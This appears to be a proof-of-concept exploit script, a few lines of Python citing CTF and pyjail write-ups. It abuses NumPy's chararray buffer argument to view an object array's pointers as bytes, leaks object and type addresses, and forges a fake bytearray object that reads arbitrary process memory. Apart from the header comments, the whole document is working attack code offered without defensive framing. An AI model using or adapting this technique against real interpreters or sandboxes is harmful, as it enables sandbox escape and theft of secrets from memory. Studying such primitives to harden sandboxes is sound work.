# source: numpy/core/defchararray.py chararray.__new__(subtype, shape, itemsize, unicode, buffer, offset, strides, order) hands buffer to ndarray.__new__; fakeobj technique from CTF/pyjail write-ups
# family: generic alias np.chararray[Any, Any] called inline with a buffer
# goal: view an object array's PyObject* slots as writable bytes: leak addresses, forge a bytearray over all memory, arbitrary memory read
import numpy as np
from typing import Any

slots = np.array([None, None, None], dtype=object)
secret = b"HELLO-FROM-ANOTHER-OBJECT"
slots[0] = secret
slots[1] = bytearray
raw = np.chararray[Any, Any]((3,), 8, False, slots)
b = raw.tobytes()
p_secret = int.from_bytes(b[0:8], "little")
p_batype = int.from_bytes(b[8:16], "little")
print("leaked address of a bytes object:", hex(p_secret))
print("leaked address of type bytearray:", hex(p_batype))
big = 2 ** 62
fake = big.to_bytes(8, "little") + p_batype.to_bytes(8, "little") + big.to_bytes(8, "little") + big.to_bytes(8, "little") + bytes(24)
slots[2] = fake
b = raw.tobytes()
p_fake = int.from_bytes(b[16:24], "little") + 32
raw[2] = p_fake.to_bytes(8, "little")
mem = slots[2]
print("forged object type:", type(mem).__name__, "len", len(mem))
print("raw read at leaked address+32:", bytes(mem[p_secret + 32:p_secret + 57]))
